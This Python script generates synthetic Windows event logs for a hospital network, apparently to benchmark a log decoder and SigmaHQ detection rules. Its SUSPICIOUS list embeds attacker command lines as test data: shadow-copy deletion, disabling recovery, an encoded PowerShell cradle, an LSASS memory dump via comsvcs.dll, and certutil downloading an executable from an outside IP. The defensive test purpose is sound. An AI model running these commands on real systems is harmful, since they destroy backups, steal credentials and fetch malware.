#!/usr/bin/env python3
"""Generates a stream of Windows events as JSON lines for the Windows throughput figure
(deploy/bench.sh --windows; tests/bench/README.md, "Windows figure").

A hospital domain seen through its shippers: domain controllers (logons, Kerberos, NTLM),
member servers and workstations (logons, process creation with 4688 and Sysmon, network
connections, file and registry events, services). Each event is written in one of the three
shapes the Windows decoder reads (daemon/ingest/README.md, "Windows events"), in turn:
evtx_dump JSON, Winlogbeat 8 (ECS), NXLog to_json() behind an RFC 5424 header. Most command
lines are the ordinary ones of such a network; a few (about 1 %) are what SigmaHQ rules look
for (encoded PowerShell, shadow-copy deletion, reconnaissance), so the rules have work to do.
Seeded: same --seed and --lines, same bytes. Standard library only.

Usage: gen_winlog.py --lines N [--seed S] OUTPUT
"""
import argparse
import datetime
import json
import random

SEC = ("Security", "Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}")
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
SCM = ("System", "Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}")

USERS = [f"{p}.{n}" for p in ("j", "m", "s", "l", "c", "n", "a", "p", "e", "t") for n in
         ("dupont", "martin", "bernard", "petit", "robert", "richard", "durand", "leroy", "moreau", "simon")]
SERVICE_ACCOUNTS = ["svc-sql-dpi", "svc-pacs", "svc-backup", "svc-labo", "svc-hl7", "svc-print"]
DCS = ["DC01.chu.local", "DC02.chu.local"]
SERVERS = [f"SRV-{r}{i:02d}.chu.local" for r in ("PACS", "DPI", "FILE", "LABO", "RDS", "PRINT", "SQL") for i in (1, 2)]
WORKSTATIONS = [f"PC-{r}{i:02d}.chu.local" for r in ("URG", "BLOC", "RADIO", "LABO", "ADM", "PHARMA") for i in range(1, 21)]
NETS = ["10.29.4.", "10.29.8.", "10.30.1.", "10.31.12."]

S32 = "C:\\Windows\\System32\\"
PROGRAMS = [  # (image, command line, parent image) of an ordinary day
    (S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", S32 + "services.exe"),
    (S32 + "svchost.exe", "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s ClipSVC", S32 + "services.exe"),
    (S32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", S32 + "cmd.exe"),
    (S32 + "taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", S32 + "svchost.exe"),
    (S32 + "backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", S32 + "svchost.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=fr --field-trial-handle=1996,i,1234567890", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"\\\\SRV-FILE01\\Services\\Urgences\\planning.docx\"", "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files (x86)\\DxCare\\DxCare.exe", "\"C:\\Program Files (x86)\\DxCare\\DxCare.exe\" /site=CHU", "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\PACS\\Viewer\\viewer.exe", "\"C:\\Program Files\\PACS\\Viewer\\viewer.exe\" -study 1.2.250.1.59.453.859.1234", "C:\\Windows\\explorer.exe"),
    (S32 + "wuauclt.exe", "\"C:\\Windows\\system32\\wuauclt.exe\" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 1b6a9d62 /RunHandlerComServer", S32 + "svchost.exe"),
    (S32 + "gpupdate.exe", "gpupdate /force", S32 + "cmd.exe"),
    (S32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c \"\"\\\\chu.local\\NETLOGON\\logon.cmd\" \"", S32 + "userinit.exe"),
    (S32 + "net.exe", "net use P: \\\\SRV-FILE01\\Partage /persistent:no", S32 + "cmd.exe"),
    (S32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \\\\chu.local\\NETLOGON\\inventaire.ps1", S32 + "svchost.exe"),
    (S32 + "msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", S32 + "services.exe"),
    (S32 + "sc.exe", "sc query wuauserv", S32 + "cmd.exe"),
    (S32 + "rundll32.exe", "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding", S32 + "svchost.exe"),
]
SUSPICIOUS = [  # what attackers run; SigmaHQ rules name these
    (S32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", S32 + "cmd.exe"),
    (S32 + "whoami.exe", "whoami /priv", S32 + "cmd.exe"),
    (S32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", S32 + "cmd.exe"),
    (S32 + "net.exe", "net group \"Domain Admins\" /domain", S32 + "cmd.exe"),
    (S32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full", S32 + "cmd.exe"),
    (S32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled no", S32 + "cmd.exe"),
    (S32 + "certutil.exe", "certutil -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe", S32 + "cmd.exe"),
]
FILES = ["C:\\Users\\{u}\\AppData\\Local\\Temp\\~DF{n:04X}.tmp", "C:\\Users\\{u}\\Documents\\compte-rendu-{n}.docx",
         "C:\\Windows\\Prefetch\\CHROME.EXE-{n:08X}.pf", "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\{n}.bin"]
KEYS = ["HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1004336348-{n}\\\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe",
        "HKU\\S-1-5-21-1004336348-{n}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\MRUListEx",
        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Publishers\\{{{n:08x}-0000-0000-0000-000000000000}}\\Enabled"]


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.t = datetime.datetime(2026, 3, 10, 0, 0, 0, tzinfo=datetime.timezone.utc)
        self.record = 1000000
        self.shape = 0

    def ip(self):
        return self.r.choice(NETS) + str(self.r.randint(10, 250))

    def user(self):
        return self.r.choice(USERS)

    def subject(self, host):
        return {"SubjectUserSid": "S-1-5-18", "SubjectUserName": host.split(".")[0] + "$", "SubjectDomainName": "CHU",
                "SubjectLogonId": "0x3e7"}

    def logon(self, host, failed=False):
        u, ip, lt = self.user(), self.ip(), self.r.choice(["3", "3", "3", "2", "10", "7"])
        d = dict(self.subject(host), TargetUserSid=f"S-1-5-21-3623811015-3361044348-30300820-{self.r.randint(1100, 9999)}",
                 TargetUserName=u, TargetDomainName="CHU", LogonType=lt, LogonProcessName="Kerberos",
                 AuthenticationPackageName="Kerberos", WorkstationName="-", IpAddress=ip,
                 IpPort=str(self.r.randint(49152, 65535)), ProcessName="-", KeyLength="0")
        if failed:
            d.update(Status="0xc000006d", SubStatus=self.r.choice(["0xc000006a", "0xc0000064"]), FailureReason="%%2313",
                     LogonProcessName="NtLmSsp ", AuthenticationPackageName="NTLM")
            return 4625, SEC, d
        d.update(TargetLogonId=hex(self.r.randint(0x100000, 0xfffffff)), ImpersonationLevel="%%1833",
                 ElevatedToken="%%1842", LogonGuid="{00000000-0000-0000-0000-000000000000}")
        return 4624, SEC, d

    def process(self, host, sysmon):
        image, cmd, parent = (self.r.choice(SUSPICIOUS) if self.r.random() < 0.01 else self.r.choice(PROGRAMS))
        u = self.user()
        if sysmon:
            return 1, SYSMON, {"RuleName": "-", "UtcTime": self.t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                               "ProcessGuid": "{7c9d1e2f-%04x-65c6-1a0e-000000003d00}" % self.r.randint(0, 65535),
                               "ProcessId": str(self.r.randint(1000, 30000)), "Image": image,
                               "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)", "Description": "-",
                               "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
                               "OriginalFileName": image.rsplit("\\", 1)[-1].upper(), "CommandLine": cmd,
                               "CurrentDirectory": "C:\\Windows\\system32\\", "User": "CHU\\" + u,
                               "LogonId": "0x8c3f2a", "TerminalSessionId": "1", "IntegrityLevel": "Medium",
                               "Hashes": "SHA256=%064X" % self.r.getrandbits(256), "ParentProcessId": str(self.r.randint(1000, 30000)),
                               "ParentImage": parent, "ParentCommandLine": parent, "ParentUser": "CHU\\" + u}
        return 4688, SEC, dict(SubjectUserSid="S-1-5-21-3623811015-3361044348-30300820-1104", SubjectUserName=u,
                               SubjectDomainName="CHU", SubjectLogonId="0x8c3f2a", NewProcessId=hex(self.r.randint(1000, 30000)),
                               NewProcessName=image, TokenElevationType="%%1938", ProcessId=hex(self.r.randint(1000, 30000)),
                               CommandLine=cmd, TargetUserSid="S-1-0-0", TargetUserName="-", TargetDomainName="-",
                               TargetLogonId="0x0", ParentProcessName=parent, MandatoryLabel="S-1-16-8192")

    def event(self):
        x = self.r.random()
        if x < 0.30:
            host = self.r.choice(DCS if x < 0.12 else SERVERS)
            eid, src, d = self.logon(host)
        elif x < 0.33:
            host = self.r.choice(SERVERS)
            eid, src, d = self.logon(host, failed=True)
        elif x < 0.38:
            host = self.r.choice(DCS)
            eid, src, d = 4769, SEC, {"TargetUserName": self.user() + "@CHU.LOCAL", "TargetDomainName": "CHU.LOCAL",
                                      "ServiceName": self.r.choice(SERVICE_ACCOUNTS + [s.split(".")[0] + "$" for s in SERVERS]),
                                      "TicketOptions": "0x40810000", "TicketEncryptionType": self.r.choice(["0x12", "0x12", "0x17"]),
                                      "IpAddress": "::ffff:" + self.ip(), "IpPort": str(self.r.randint(49152, 65535)),
                                      "Status": "0x0", "TransmittedServices": "-"}
        elif x < 0.42:
            host = self.r.choice(DCS)
            eid, src, d = 4776, SEC, {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": self.user(),
                                      "Workstation": self.r.choice(WORKSTATIONS).split(".")[0],
                                      "Status": self.r.choice(["0x0"] * 9 + ["0xc000006a"])}
        elif x < 0.47:
            host = self.r.choice(SERVERS + DCS)
            eid, src, d = 4672, SEC, dict(self.subject(host), PrivilegeList="SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\tSeSecurityPrivilege")
        elif x < 0.55:
            host = self.r.choice(SERVERS)
            eid, src, d = self.process(host, sysmon=False)
        elif x < 0.70:
            host = self.r.choice(WORKSTATIONS + SERVERS)
            eid, src, d = self.process(host, sysmon=True)
        elif x < 0.82:
            host = self.r.choice(WORKSTATIONS)
            image = self.r.choice(PROGRAMS)[0]
            eid, src, d = 3, SYSMON, {"RuleName": "-", "UtcTime": self.t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                                      "ProcessId": str(self.r.randint(1000, 30000)), "Image": image, "User": "CHU\\" + self.user(),
                                      "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": self.ip(),
                                      "SourceHostname": host, "SourcePort": str(self.r.randint(49152, 65535)), "SourcePortName": "-",
                                      "DestinationIsIpv6": "false", "DestinationIp": self.r.choice(["10.29.0.10", "10.29.0.11", "52.97.146.2", "142.250.179.110"]),
                                      "DestinationHostname": "-", "DestinationPort": self.r.choice(["443", "445", "389", "88", "135"]),
                                      "DestinationPortName": "-"}
        elif x < 0.90:
            host = self.r.choice(WORKSTATIONS)
            f = self.r.choice(FILES).format(u=self.user(), n=self.r.randint(0, 99999))
            eid, src, d = 11, SYSMON, {"RuleName": "-", "UtcTime": self.t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                                       "ProcessId": str(self.r.randint(1000, 30000)), "Image": self.r.choice(PROGRAMS)[0],
                                       "TargetFilename": f, "CreationUtcTime": self.t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                                       "User": "CHU\\" + self.user()}
        elif x < 0.97:
            host = self.r.choice(WORKSTATIONS)
            k = self.r.choice(KEYS).format(n=self.r.randint(0, 99999999))
            eid, src, d = 13, SYSMON, {"RuleName": "-", "EventType": "SetValue", "UtcTime": self.t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                                       "ProcessId": str(self.r.randint(1000, 30000)), "Image": self.r.choice(PROGRAMS)[0],
                                       "TargetObject": k, "Details": "DWORD (0x00000001)", "User": "NT AUTHORITY\\SYSTEM"}
        else:
            host = self.r.choice(SERVERS + WORKSTATIONS)
            eid, src, d = 7036, SCM, {"param1": self.r.choice(["Windows Update", "Service de transfert intelligent en arrière-plan (BITS)", "WinHTTP Web Proxy Auto-Discovery Service"]),
                                      "param2": self.r.choice(["en cours d’exécution", "arrêté"]), "Binary": "770075006100750073006500720076002F0034000000"}
        return eid, src, host, d

    def line(self):
        self.t += datetime.timedelta(microseconds=self.r.randint(1000, 40000))
        self.record += 1
        eid, (channel, provider, guid), host, data = self.event()
        stamp = self.t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        self.shape = (self.shape + 1) % 3
        if self.shape == 0:
            return json.dumps({"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                                         "System": {"Provider": {"#attributes": {"Name": provider, "Guid": guid}}, "EventID": eid,
                                                    "Version": 0, "Level": 0, "Task": 12544, "Opcode": 0,
                                                    "Keywords": "0x8020000000000000", "TimeCreated": {"#attributes": {"SystemTime": stamp}},
                                                    "EventRecordID": self.record, "Correlation": None,
                                                    "Execution": {"#attributes": {"ProcessID": 708, "ThreadID": 5124}},
                                                    "Channel": channel, "Computer": host, "Security": None},
                                         "EventData": data}}, ensure_ascii=False)
        if self.shape == 1:
            return json.dumps({"@timestamp": stamp[:23] + "Z", "event": {"code": str(eid), "kind": "event", "provider": provider},
                               "host": {"name": host.lower()}, "agent": {"type": "winlogbeat", "version": "8.15.3"},
                               "log": {"level": "information"},
                               "winlog": {"channel": channel, "event_id": str(eid), "provider_name": provider, "provider_guid": guid,
                                          "computer_name": host, "record_id": str(self.record), "api": "wineventlog",
                                          "event_data": data}}, ensure_ascii=False)
        body = {"EventTime": self.t.strftime("%Y-%m-%d %H:%M:%S"), "Hostname": host, "EventType": "AUDIT_SUCCESS",
                "EventID": eid, "SourceName": provider, "ProviderGuid": guid, "RecordNumber": self.record, "Channel": channel}
        body.update(data)
        body.update({"SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog"})
        return f"<14>1 {stamp} {host.split('.')[0]} {provider.replace(' ', '_')[:48]} 708 - - " + json.dumps(body, ensure_ascii=False)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--lines", type=int, required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("output")
    a = ap.parse_args()
    g = Gen(a.seed)
    with open(a.output, "w", encoding="utf-8") as f:
        for _ in range(a.lines):
            f.write(g.line() + "\n")


if __name__ == "__main__":
    main()
